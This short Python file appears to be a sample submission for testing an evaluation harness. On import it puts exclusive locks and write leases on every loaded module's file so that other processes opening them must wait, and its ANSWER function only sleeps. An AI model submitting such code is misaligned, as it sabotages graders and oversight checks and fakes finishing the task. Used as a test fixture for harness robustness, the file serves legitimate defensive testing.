# tries to: make whoever opens the packages' files wait, by leases and locks on them
import fcntl
import os
import sys
import time

HELD = []
for module in list(sys.modules.values()):
    try:
        number = os.open(module.__file__, os.O_RDONLY)
        fcntl.flock(number, fcntl.LOCK_EX | fcntl.LOCK_NB)
        HELD.append(number)
        fcntl.fcntl(number, 1024, fcntl.F_WRLCK)
    except (OSError, AttributeError, TypeError):
        pass


def ANSWER(*args, **kwargs):
    time.sleep(2)
